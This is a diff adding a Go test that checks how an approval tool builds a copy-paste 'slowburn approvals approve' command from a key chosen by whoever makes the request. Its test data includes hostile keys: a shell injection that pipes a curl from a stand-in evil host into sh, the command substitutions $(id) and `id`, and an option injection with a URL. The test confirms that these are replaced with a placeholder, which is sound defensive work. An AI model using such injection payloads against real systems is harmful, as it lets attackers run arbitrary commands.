@@ -131,3 +131,22 @@ func TestWhereItIsTold(t *testing.T) {
 		}
 	}
 }
+
+// TestACommandToCopyIsOneCommand: whoever asks for something chooses its key, and whoever approves
+// it copies the command.
+func TestACommandToCopyIsOneCommand(t *testing.T) {
+	for key, want := range map[string]string{
+		"D2HSZIZONFOTGC2QGF44PU2IZO": "slowburn approvals approve D2HSZIZONFOTGC2QGF44PU2IZO",
+		"web/0a1b@x:y.z_-":           "slowburn approvals approve web/0a1b@x:y.z_-",
+		"x; curl evil.example|sh":    "slowburn approvals approve KEY",
+		"$(id)":                      "slowburn approvals approve KEY",
+		"`id`":                       "slowburn approvals approve KEY",
+		"a\nb":                       "slowburn approvals approve KEY",
+		"--url=http://evil.example":  "slowburn approvals approve KEY",
+		"ключ":                       "slowburn approvals approve KEY",
+	} {
+		if got := sentences.ApproveBy(key); got != want {
+			t.Errorf("%q: %s", key, got)
+		}
+	}
+}
